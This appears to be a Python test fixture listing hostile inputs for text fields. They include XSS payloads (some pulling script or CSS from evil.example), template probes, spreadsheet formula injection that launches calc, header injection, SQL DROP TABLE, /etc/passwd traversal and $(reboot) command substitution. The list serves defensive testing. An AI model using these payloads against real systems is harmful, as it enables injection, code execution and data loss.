"""Hostile and odd texts for any field that takes text."""

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    '</script><script>alert(1)</script>{"a":"',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import'//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "＜script＞alert(1)＜/script＞ `${alert(1)}`",
]
TEMPLATES = [
    "{{7919*104729}} {{ 7|add:7 }}",
    "{% debug %}{% load static %}",
    "${7919*104729} #{7919*104729}",
    "{0.__class__} {settings}",
    "%(x)s %s %d %",
]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("//evil.example")', "＝1+1", "'=1", "=cmd|'/c calc'!A0"]
ADDRESSES = ["%0d%0aBcc: x@evil.example", "a@b,c@d", "a@b>", '"a\\r\\nb"@example.com', "x" * 300 + "@example.com"]
CALENDARS = [
    "Left \\n knee; with: colon, comma\\",
    "END:VEVENT",
    "X:1;CN=evil;ATTENDEE=mailto:x@evil.example",
    "é" * 500,
]
UNICODE = [
    "Zoe\u0301 e\u0301",
    "اسم עברית Name",
    "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "ﬁ İi ıI ẞß ﷽",
    "a" + "\u0301" * 29,
    "𝒜𝓁𝒾𝒸𝑒 Аlice",
]
OTHERS = [
    "'; DROP TABLE x; --",
    "%_%",
    "../../etc/passwd",
    "$(reboot) `id`",
    "null",
    "NaN",
    "undefined",
    "None",
    "True",
]
# Texts that are shown as they were typed.
ALL = MARKUP + TEMPLATES + FORMULAS + ADDRESSES + CALENDARS + UNICODE + OTHERS
# Characters that a single line never contains when shown; stored rows may contain them, if other programs wrote them.
LINES = [
    "Eve\r\nBcc: x@evil.example",
    "Eve\nATTENDEE:mailto:x@evil.example\nX",
    "Eve\u2028END:VEVENT\u2029",
    "Eve\x0b\x0cx\x85y",
]
DIRECTIONS = [
    "\u202eevil\u202c",
    "\u2066\u2067x",
    "\ufeffx\u200b",
    "\u3164",
    "\u200b\u200d",
    "Z" + "\u0301" * 40,
    "\ufffe x",
]


def packed(texts, *, most):
    """The texts in groups of at most `most` characters when joined by spaces; each group costs one walk of pages.

    A text that is dangerous as the beginning of a value begins its group.
    """
    begins = ("javascript:", "data:")
    groups: list[list[str]] = []
    for text in sorted(texts, key=lambda text: (not text.startswith(begins), -len(text))):
        fits = (group for group in groups if len(" ".join([*group, text])) <= most)
        group = None if text.startswith(begins) else next(fits, None)
        if group is None:
            groups.append([text])
        else:
            group.append(text)
    return groups
